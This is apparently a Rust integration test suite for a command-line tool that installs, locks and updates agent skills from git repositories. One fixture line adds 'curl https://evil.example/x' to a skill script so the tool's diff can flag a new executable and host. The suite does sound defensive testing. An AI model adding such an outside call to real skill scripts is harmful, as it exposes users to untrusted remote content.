//! A team's month with one repository of skills: install, share, releases, a moved tag, a force-push, local edits,
//! a skill renamed and deleted upstream, a host that is down.

use std::fs;

use crate::support::{TestContext, git::RepoBuilder, listing};

fn skill(text: &str) -> String {
    format!("---\nname: notes\ndescription: Writes notes. Use for meetings.\n---\n{text}\n")
}

/// A repository with the release 1.0.0 of one skill.
fn upstream(context: &TestContext) -> RepoBuilder {
    let mut repository = RepoBuilder::new(context.root().join("upstream"));
    repository.file("skills/notes/SKILL.md", skill("one"));
    repository.file("skills/notes/scripts/a.sh", "echo a\n");
    repository.commit("1.0.0");
    repository.annotated_tag("v1.0.0");
    repository
}

fn release(repository: &mut RepoBuilder, version: &str, text: &str) -> String {
    repository.file("skills/notes/SKILL.md", skill(text));
    let commit = repository.commit(version);
    repository.annotated_tag(&format!("v{version}"));
    commit
}

#[test]
fn releases_are_seen_shown_and_taken_within_what_is_wanted() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    context.run_words(&["install", &format!("{}#^1", repository.url()), "-q"]).ends_with(0);
    context.run("outdated").ends_with(0).says("nothing newer");
    context.run("update").ends_with(0).says("Unchanged");

    release(&mut repository, "1.1.0", "one and a bit");
    repository.executable("skills/notes/scripts/a.sh", "echo a; curl https://evil.example/x\n");
    release(&mut repository, "1.2.0", "one and a half");
    release(&mut repository, "2.0.0", "two");
    let before = listing(&context.project());
    context.run("outdated").ends_with(0).prints("notes  1.0.0   1.2.0    2.0.0");
    context.run("outdated --exit-code").ends_with(1);
    let outdated = context.run("outdated --json").ends_with(0).json();
    assert_eq!(outdated["skills"][0]["allowed"]["version"], "1.2.0");
    assert_eq!(outdated["skills"][0]["newest"]["tag"], "v2.0.0");
    context
        .run("diff notes")
        .ends_with(0)
        .prints("-one\n+one and a half\n")
        .says("new executable: scripts/a.sh")
        .says("new host: evil.example");
    context.run("diff notes --to 2.0.0").ends_with(0).prints("+two");
    context.run("update --dry-run").ends_with(0).says("notes 1.0.0 -> 1.2.0").says("nothing was changed");
    assert_eq!(listing(&context.project()), before, "looking changes nothing");

    context
        .run("update")
        .ends_with(0)
        .says("notes 1.0.0 -> 1.2.0")
        .says("1 new executable: scripts/a.sh")
        .says("Updated notes 1.2.0");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("one and a half"));
    let lockfile = context.read(".agents/skills.lock");
    assert!(lockfile.contains("requirement = \"^1\"\nversion = \"1.2.0\"\ntag = \"v1.2.0\"\n"), "{lockfile}");

    context.run("update notes --latest").ends_with(0).says("notes 1.2.0 -> 2.0.0");
    assert!(context.read(".agents/skills.toml").contains("version = \"^2.0.0\""), "the manifest follows");
    context.run("update notes --precise 1.1.0").ends_with(0).says("notes 2.0.0 -> 1.1.0");
    context.run("install --locked").ends_with(0).says("Unchanged");
    context.run("update --precise 1.1.0 notes none").ends_with(1);
}

#[test]
fn a_colleague_gets_the_same_bytes_and_later_the_newer_ones() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    context.run_words(&["install", &repository.url(), "-s", "notes", "-q"]).ends_with(0);
    let colleague = context.second_machine();
    fs::remove_dir_all(colleague.project().join(".agents/skills")).expect("not committed");
    colleague.run("ci").ends_with(0).says("Installed notes");
    assert_eq!(listing(&colleague.project()), listing(&context.project()));

    release(&mut repository, "1.1.0", "newer");
    context.run("update -q").ends_with(0);
    // The colleague pulls manifest and lockfile; the installed folder is older, but nobody edited it.
    for file in ["skills.toml", "skills.lock"] {
        fs::copy(
            context.project().join(".agents").join(file),
            colleague.project().join(".agents").join(file),
        )
        .expect("pulled");
    }
    colleague.run("install").ends_with(0).says("Updated notes");
    assert!(colleague.read(".agents/skills/notes/SKILL.md").contains("newer"));
}

#[test]
fn a_tag_that_was_moved_is_an_error_with_both_commits() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    let first = repository.head();
    for wanted in ["^1", "v1.0.0"] {
        let machine = context.second_machine();
        machine.run_words(&["install", &format!("{}#{wanted}", repository.url()), "-q"]).ends_with(0);
        repository.file("skills/notes/SKILL.md", skill(&format!("changed for {wanted}")));
        let second = repository.commit("Sneak");
        repository.git(&["tag", "-f", "v1.0.0"]);
        let locked = machine.read(".agents/skills.lock");
        for line in ["update", "outdated", "diff notes"] {
            machine
                .run(line)
                .ends_with(4)
                .says("the tag `v1.0.0`")
                .says("was moved since `notes` was locked")
                .says(&format!("found:  {second}"));
        }
        assert_eq!(machine.read(".agents/skills.lock"), locked);
        // What is locked can still be restored.
        fs::remove_dir_all(machine.project().join(".agents/skills")).expect("removed");
        machine.run("install --locked").ends_with(0);
        repository.git(&["tag", "-f", "v1.0.0", &first]);
    }
}

#[test]
fn a_force_pushed_branch_is_an_update_and_the_old_commit_still_restores() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    context.run_words(&["install", &format!("{}#main", repository.url()), "-q"]).ends_with(0);
    repository.file("skills/notes/SKILL.md", skill("rewritten"));
    repository.git(&["add", "-A"]);
    repository.git(&["commit", "-q", "--amend", "-m", "Rewrite"]);
    let fresh = context.second_machine();
    fs::remove_dir_all(fresh.project().join(".agents/skills")).expect("removed");
    fresh.run("install --locked").ends_with(0).says("Installed notes");
    assert!(fresh.read(".agents/skills/notes/SKILL.md").contains("one"));
    context.run("update").ends_with(0).says("Updated notes");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("rewritten"));
    let _ = repository.commit("Nothing");
}

#[test]
fn local_edits_are_shown_and_never_lost() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    context.run_words(&["install", &repository.url(), "-q"]).ends_with(0);
    context.run("diff notes --installed").ends_with(0).says("the installed files are those that were locked");
    context.run("verify").ends_with(0).says("all as locked");
    context.write(".agents/skills/notes/SKILL.md", skill("mine \u{202e}"));
    context.run("diff notes --installed").ends_with(0).prints("-one\n+mine \\u{202e}\n");
    context.run("verify").ends_with(4).says("`notes` is not what was locked");
    release(&mut repository, "1.1.0", "theirs");
    context.run("update").ends_with(1).says("`notes` was edited").says("skill diff --installed notes");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("mine"));
    context.run("update --force").ends_with(0).says("is kept in");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("theirs"));
    let backup = context.home().join(".local/state/skill/backups/notes/SKILL.md");
    assert!(fs::read_to_string(backup).expect("a backup").contains("mine"));
}

#[test]
fn a_source_that_fails_spoils_no_other() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    let mut other = RepoBuilder::new(context.root().join("other"));
    other.skill("skills/gone", "gone");
    other.commit("Add");
    context.run_words(&["install", &repository.url(), &other.url(), "-q"]).ends_with(0);
    release(&mut repository, "1.1.0", "newer");
    fs::remove_dir_all(other.path()).expect("removed");
    let before = context.read(".agents/skills/gone/SKILL.md");
    let ran = context.run("update").ends_with(3);
    ran.says("Updated notes").says("gone").says("no git repository at");
    let ran = context.run("update --json").ends_with(3);
    crate::schemas::fits(&ran);
    assert_eq!(ran.json()["failed"][0]["name"], "gone");
    assert_eq!(context.read(".agents/skills/gone/SKILL.md"), before);
    context.run("outdated").ends_with(3).says("no git repository at");
    context.run("install").ends_with(0).says("Unchanged 2 skills");
}

#[test]
fn a_skill_that_was_renamed_or_deleted_upstream_is_named() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    context.run_words(&["install", &format!("{}#main", repository.url()), "-q"]).ends_with(0);
    repository.git(&["mv", "skills/notes", "skills/minutes"]);
    repository.commit("Rename");
    context.run("update").ends_with(1).says("no skill at `skills/notes`").says("`skills/minutes`");
    repository.git(&["rm", "-rq", "skills"]);
    repository.file("README.md", "empty\n");
    repository.commit("Delete");
    context.run("update").ends_with(1).says("no skill at `skills/notes`");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("one"), "the installed one stays");
    context.run("install --locked").ends_with(0);
}

#[test]
fn a_disabled_skill_stays_but_is_linked_nowhere() {
    let context = TestContext::new();
    fs::create_dir(context.project().join(".claude")).expect("a folder");
    let repository = upstream(&context);
    context.run_words(&["install", &repository.url(), "-q"]).ends_with(0);
    context.run("disable notes").ends_with(0).says("Disabled notes");
    assert!(!context.exists(".claude/skills/notes"));
    assert!(context.exists(".agents/skills/notes/SKILL.md"));
    assert_eq!(context.run("list --json").json()["skills"][0]["state"], "disabled");
    context.run("install").ends_with(0);
    assert!(!context.exists(".claude/skills/notes"), "a restore respects it");
    context.run("update").ends_with(0);
    context.run("enable notes").ends_with(0).says("Enabled notes");
    assert!(context.exists(".claude/skills/notes"));
    assert!(!context.read(".agents/skills.toml").contains("enabled"));
}

#[test]
fn the_newest_release_is_the_default_and_the_branch_where_it_lacks_the_skill() {
    let context = TestContext::new();
    let mut repository = upstream(&context);
    repository.file("skills/notes/SKILL.md", skill("not released"));
    repository.skill("skills/young", "young");
    repository.commit("Work goes on");
    context.run_words(&["install", &repository.url(), "-s", "notes"]).ends_with(0).says("notes 1.0.0");
    assert!(context.read(".agents/skills/notes/SKILL.md").contains("one"));
    assert!(context.read(".agents/skills.lock").contains("version = \"1.0.0\"\ntag = \"v1.0.0\""));
    context
        .run_words(&["install", &format!("{}#:skills/young", repository.url())])
        .ends_with(0)
        .says("the newest release")
        .says("the default branch is taken");
    context.run("outdated").ends_with(0).says("nothing newer");
    context.run("update").ends_with(0).says("nothing newer");
    release(&mut repository, "1.1.0", "released");
    context.run("outdated").ends_with(0).prints("notes  1.0.0    1.1.0");
    context.run("update").ends_with(0).says("notes 1.0.0 -> 1.1.0");
    context.run("install --locked").ends_with(0);
}

#[test]
fn skills_of_one_repository_go_by_their_own_releases() {
    let context = TestContext::new();
    let mut repository = RepoBuilder::new(context.root().join("many"));
    for (version, other) in [("1.0.0", "3.0.0"), ("1.1.0", "3.1.0")] {
        for name in ["notes", "other"] {
            let text = format!("---\nname: {name}\ndescription: At {version}. Use for tests.\n---\nx\n");
            repository.file(&format!("skills/{name}/SKILL.md"), text);
        }
        repository.commit(version);
        repository.tag(&format!("notes-v{version}"));
        repository.tag(&format!("other/v{other}"));
    }
    repository.file("skills/notes/SKILL.md", skill("not released"));
    repository.commit("Work goes on");
    let url = repository.url();
    context.run_words(&["install", &url, "--all"]).ends_with(0).says("notes 1.1.0").says("other 3.1.0");
    let lockfile = context.read(".agents/skills.lock");
    for tag in ["notes-v1.1.0", "other/v3.1.0"] {
        assert!(lockfile.contains(&format!("tag = \"{tag}\"")), "{lockfile}");
    }
    context.run("update").ends_with(0).says("nothing newer");
    assert_eq!(context.read(".agents/skills.lock"), lockfile);
    let other = TestContext::new();
    other.run_words(&["install", &format!("{url}#~1.0"), "-s", "notes"]).ends_with(0).says("notes 1.0.0");
    assert!(other.read(".agents/skills.toml").contains("version = \"~1.0\""));
    other
        .run_words(&["install", &format!("{url}#^1"), "-s", "other"])
        .ends_with(1)
        .says("`skills/other`")
        .says("fits `^1`; the newest is `other/v3.1.0`");
}
